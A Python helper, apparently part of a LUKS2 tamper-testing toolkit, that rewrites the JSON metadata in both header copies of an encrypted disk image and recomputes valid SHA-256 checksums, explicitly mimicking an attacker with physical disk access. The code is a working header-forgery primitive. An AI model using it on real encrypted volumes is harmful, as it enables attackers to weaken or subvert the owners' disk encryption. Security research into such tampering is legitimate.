# The LUKS2 header rewrite the tamper scripts share (luks2-set-cipher.py, luks2-token-edit.py):
# edit(meta) changes the JSON metadata of both header copies of a file (a partition or its
# header area copied out of a disk), written back with valid header checksums, as an attacker
# with the disk would.
import hashlib, json, struct


def rewrite(path, edit):
    with open(path, 'r+b') as f:
        hdr = f.read(4096)
        size = struct.unpack('>Q', hdr[8:16])[0]
        for off in (0, size):
            f.seek(off)
            h = bytearray(f.read(size))
            meta = json.loads(bytes(h[4096:size]).rstrip(b'\0').decode())
            edit(meta)
            text = json.dumps(meta, separators=(',', ':')).encode()
            h[4096:size] = text + b'\0' * (size - 4096 - len(text))
            h[448:448 + 64] = b'\0' * 64
            h[448:448 + 32] = hashlib.sha256(bytes(h)).digest()
            f.seek(off)
            f.write(h)
